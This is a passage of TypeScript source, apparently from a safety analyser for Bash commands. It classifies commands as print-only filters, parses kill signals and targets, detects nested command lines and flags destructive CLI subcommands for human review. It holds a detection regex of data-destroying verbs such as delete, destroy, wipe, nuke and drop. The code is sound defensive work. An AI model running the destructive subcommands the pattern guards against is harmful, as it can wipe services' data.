  return r.write && (r.fd === null || r.fd === 1) && r.path !== null && r.path.path !== '/dev/null';
}

/** A filter that prints what it reads (knowledge/text.ts), and runs no code of its own here. */
function onlyPrints(d: BashCommand): boolean {
  if (d.via === 'command_substitution' || d.via === 'process_substitution') return false;
  if (d.inline_code !== null && d.name !== 'jq' && d.name !== 'awk' && d.name !== 'sed') return false;
  return FILTERS.has(d.name);
}

function signalOf(parsed: ParsedArgs, options: readonly string[] | undefined): string {
  const named = optionValues(parsed, options)[0];
  if (named !== undefined) return named.replace(/^SIG/i, '').toUpperCase();
  for (const f of parsed.flags) if (/^\d+$/.test(f) || /^[A-Z][A-Z0-9+]*$/.test(f)) return f.replace(/^SIG/, '');
  return 'TERM';
}

function pidTarget(word: string): string {
  if (word === '-1') return 'all';
  if (/^-\d+$/.test(word)) return `group:${word.slice(1)}`;
  if (/^%/.test(word)) return `job:${word.slice(1)}`;
  return `pid:${word}`;
}

/**
 * An unknown program given a command line: a word with shell operators around words, a
 * word whose first word is a program the table knows followed by more words, or a known
 * program after `--`. The program may run it; what that would do is not known.
 */
function runsGivenCommandLine(c: BashCommand, ec: EffectContext): boolean {
  if (definedInScript(c.name, ec.facts.command)) return false;
  const dash = c.args.indexOf('--');
  if (dash !== -1 && c.args[dash + 1] !== undefined && runsThings(c.args[dash + 1])) return true;
  return c.args.some((a) => looksLikeCommandLine(a));
}

/** A program that acts (not one of the plain text family). */
function runsThings(word: string): boolean {
  const name = word.split('/').pop() ?? word;
  const entry = knowledgeOf(name);
  return entry !== undefined && entry.rules.length > 0;
}

/**
 * The verbs by which CLIs destroy what they manage (`<tool> delete x`, `<tool> apps:destroy`,
 * `<tool> destroy-model`, `<tool> cluster delete`): in subcommand position (the first two
 * operands) of a program the table does not know, what is destroyed is not known, and it may be
 * a service's data, so a person looks. Softer verbs (`rm`, `remove`, `purge`, `prune`, `clean`)
 * are left out: package and cache managers use them for everyday housekeeping.
 */
const DESTROYING_VERB = /^(?:[\w-]+:)*(?:delete|destroy|terminate|wipe|erase|nuke|drop|teardown|decommission|deprovision)(?:[_-](?:all|model|cluster|project|app|env|environment|stack|db|database|storage|instance|flash|region|user|org))*$/i;

function destroyingSubcommand(c: BashCommand): string | null {
  if (c.path !== null && /\.(?:py|sh|js|ts|rb|pl)$/.test(c.name) === false && !/^[\w.-]+$/.test(c.name)) return null;
  const verb = c.operands.slice(0, 2).find((o) => DESTROYING_VERB.test(o));
  return verb ?? null;
}

export function looksLikeCommandLine(a: string): boolean {
  if (a.length < 4 || a.length > 4096 || !/\s/.test(a)) return false;
  if (/(?:^|\s)(?:&&|\|\||;|\|)\s*[A-Za-z./]/.test(a) && /^\s*[\w./-]+\s/.test(a)) return true;
  // A backtick pair around a dotted name (`project.dataset.table` in BigQuery or MySQL SQL)
  // quotes an identifier; around anything else it may be a command substitution.
  if (/\$\(|`(?![\w-]+(?:\.[\w-]+)+`)[^`]+`/.test(a)) return true;
  const first = /^\s*([\w./-]+)\s+\S/.exec(a);
  return first !== null && runsThings(first[1]);
}

function definedInScript(name: string, script: string): boolean {
  if (!/^[\w-]+$/.test(name)) return false;
  return new RegExp(`(?:^|[\\s;&|(])(?:function\\s+${name}\\b|${name}\\s*\\(\\s*\\))|alias\\s+${name}=`).test(script);
}

export { isKnownProgram };
